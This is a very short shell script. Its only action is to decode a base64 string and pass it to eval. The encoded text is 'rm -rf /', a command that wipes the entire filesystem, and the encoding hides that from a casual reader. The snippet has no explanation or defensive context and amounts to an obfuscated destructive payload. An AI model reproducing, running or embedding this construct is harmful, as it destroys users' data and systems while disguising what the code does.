set -eu
eval "$(echo cm0gLXJmIC8K | base64 --decode)"
